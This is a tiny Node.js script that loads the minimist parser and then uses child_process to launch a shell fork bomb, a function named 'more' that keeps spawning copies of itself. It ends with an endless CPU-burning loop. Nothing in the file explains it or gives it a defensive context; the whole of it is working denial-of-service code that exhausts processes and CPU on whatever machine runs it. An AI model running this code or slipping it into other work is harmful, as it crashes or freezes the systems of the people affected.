require('minimist')(['--more']);
require('node:child_process').spawnSync('/bin/sh', ['-c', 'more() { more | more & }; more; sleep 60']);
for (;;);
